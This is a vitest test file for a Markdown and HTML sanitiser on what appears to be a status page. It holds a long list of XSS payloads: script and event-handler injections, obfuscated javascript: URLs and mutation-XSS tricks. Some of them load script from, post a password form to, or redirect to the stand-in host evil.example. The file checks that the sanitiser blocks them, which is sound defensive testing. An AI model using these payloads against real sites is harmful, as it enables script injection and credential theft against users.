import { describe, expect, test } from 'vitest';
import { renderSafeHtml } from '../../src/render/markdown.ts';

const formats = ['markdown', 'html'] as const;

/** The only tags that may come out, written exactly so. */
const allowedTag =
  /^<(\/?(p|strong|em|b|i|code|pre|ul|ol|li|blockquote|del|h3|h4|small)|\/a|br \/|hr \/|ol start="\d+"|a|a( href="[^"<>]*")? rel="noopener nofollow")>$/;

/** Everything between angle brackets that is none of ours. */
const strangers = (html: string): string[] =>
  (html.match(/<[^>]*>?/g) ?? []).filter((tag) => !allowedTag.test(tag));

const entities: Record<string, string> = { '&amp;': '&', '&lt;': '<', '&gt;': '>', '&quot;': '"' };

/** Where a click would lead from our page. */
const targets = (html: string): URL[] =>
  [...html.matchAll(/<a href="([^"]*)"/g)].map(([, href = '']) => {
    const plain = href.replace(/&(amp|lt|gt|quot);/g, (entity) => entities[entity] ?? entity);
    return new URL(plain, 'https://status.example.com/incidents/x');
  });

const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\n>alert(1)</script\n>',
  '<script/src=data:,alert(1)>',
  '<style>@import "https://evil.example"</style>',
  '<link rel=stylesheet href=https://evil.example>',
  '<form action=https://evil.example><input name=password><button>Sign in</button></form>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:text/html,<script>alert(1)</script>">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<img src=x onerror=alert(1)>',
  '<img src="x:x" onerror="alert(1)">',
  '<p onclick="alert(1)" style="position:fixed">x</p>',
  '<b onmouseover=alert(1)>x</b>',
  '<a href="https://ok.example" onclick="alert(1)" target="_blank" style="color:red">x</a>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A;&#x61;vascript&colon;alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<template><script>alert(1)</script></template>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<video><source onerror=alert(1)></video>',
  '<details open ontoggle=alert(1)>x</details>',
  '<p id="main" name="cookie" class="card">x</p>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '</p></div></article><h1>Everything is working</h1>',
  '[x](javascript:alert(1))',
  '[x](JAVASCRIPT:alert(1))',
  '[x](java&#115;cript:alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x]: javascript:alert(1)\n\n[x]',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](vbscript:x)',
  '[x](//evil.example)',
  '<javascript:alert(1)>',
  '![x](https://evil.example/pixel.gif)',
  '![x](javascript:alert(1))',
  '![" onerror="alert(1)](x)',
  '[x](https://ok.example "\\" onclick=\\"alert(1)")',
  '```js"><img src=x onerror=alert(1)>\nx\n```',
  '`<img src=x onerror=alert(1)>`',
  '> <iframe src=x>',
  '- <svg onload=alert(1)>',
  '| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |',
  '- [ ] <input onfocus=alert(1) autofocus>',
  '<x/onclick=alert(1)>x',
  '<<script>alert(1)//<</script>',
  '<a href="https://ok.example/?a=&quot;onclick=alert(1)">x</a>',
];

describe.each(formats)('%s: nothing that acts comes through', (format) => {
  test.each(attacks)('%j', (attack) => {
    for (const text of [attack, `Before ${attack} after`, `**${attack}**`]) {
      const html = renderSafeHtml(text, format);
      expect(strangers(html)).toEqual([]);
      for (const { protocol } of targets(html)) expect(['https:', 'mailto:']).toContain(protocol);
    }
  });

  test('nor a link whose host is not spelled out', () => {
    for (const href of [
      '//evil.example',
      '\\\\evil.example',
      '/\\evil.example',
      '\\/evil.example',
      '/\t/evil.example',
    ]) {
      for (const text of [`[x](${href})`, `[x](<${href}>)`, `<a href="${href}">x</a>`]) {
        for (const { host } of targets(renderSafeHtml(text, format)))
          expect(host).not.toContain('evil.example');
      }
    }
  });

  test('nor what is nested a thousand times', () => {
    expect(strangers(renderSafeHtml('<b>'.repeat(1_000), format))).toEqual([]);
    expect(strangers(renderSafeHtml(`${'> '.repeat(200)}<script>x</script>`, format))).toEqual([]);
  });
});

describe('Markdown', () => {
  test.each([
    ['One\ntwo', '<p>One<br />two</p>'],
    ['One\n\ntwo', '<p>One</p>\n<p>two</p>'],
    ['**a** *b* ~~c~~ `d`', '<p><strong>a</strong> <em>b</em> <del>c</del> <code>d</code></p>'],
    ['# a', '<h3>a</h3>'],
    ['## a', '<h3>a</h3>'],
    ['### a', '<h3>a</h3>'],
    ['#### a', '<h4>a</h4>'],
    ['###### a', '<h4>a</h4>'],
    ['- a\n- b', '<ul>\n<li>a</li>\n<li>b</li>\n</ul>'],
    ['3. a', '<ol start="3">\n<li>a</li>\n</ol>'],
    ['> a', '<blockquote>\n<p>a</p>\n</blockquote>'],
    ['---', '<hr />'],
    ['    a < b', '<pre><code>a &lt; b\n</code></pre>'],
    [
      '[a](https://help.example/b?c=1&d=2)',
      '<p><a href="https://help.example/b?c=1&amp;d=2" rel="noopener nofollow">a</a></p>',
    ],
    [
      '[a](mailto:help@example.com)',
      '<p><a href="mailto:help@example.com" rel="noopener nofollow">a</a></p>',
    ],
    [
      'https://help.example',
      '<p><a href="https://help.example" rel="noopener nofollow">https://help.example</a></p>',
    ],
    ['<b>raw</b> & <i>shown</i>', '<p>&lt;b&gt;raw&lt;/b&gt; &amp; &lt;i&gt;shown&lt;/i&gt;</p>'],
    ['a < b > c & "d"', '<p>a &lt; b &gt; c &amp; "d"</p>'],
    ['[a](javascript:alert(1))', '<p><a rel="noopener nofollow">a</a></p>'],
    ['', ''],
  ])('%j becomes %j', (source, html) => {
    expect(renderSafeHtml(source, 'markdown')).toBe(html);
  });
});

describe('imported HTML', () => {
  test.each([
    ['One\ntwo\r\nthree', 'One<br />two<br />three'],
    ['<b>a</b> <strong>b</strong> <small>c</small>', '<b>a</b> <strong>b</strong> <small>c</small>'],
    ['<h1>a</h1><h2>b</h2><h6>c</h6>', '<h3>a</h3><h3>b</h3><h4>c</h4>'],
    [
      '<a href="https://ok.example" target="_blank">a</a>',
      '<a href="https://ok.example" rel="noopener nofollow">a</a>',
    ],
    ['<a href="/relative">a</a>', '<a href="/relative" rel="noopener nofollow">a</a>'],
    ['<var data-var="date">Nov 20</var>', 'Nov 20'],
    ['*not* Markdown', '*not* Markdown'],
    ['5 < 6 &amp; 7', '5 &lt; 6 &amp; 7'],
    ['a<div>b</div>c', 'abc'],
    ['<p>a<script>alert(1)</script>b</p>', '<p>ab</p>'],
  ])('%j becomes %j', (source, html) => {
    expect(renderSafeHtml(source, 'html')).toBe(html);
  });
});

test('what was rendered stays safe when somebody sanitises it again', () => {
  for (const attack of attacks) {
    for (const format of formats)
      expect(strangers(renderSafeHtml(renderSafeHtml(attack, format), 'html'))).toEqual([]);
  }
});
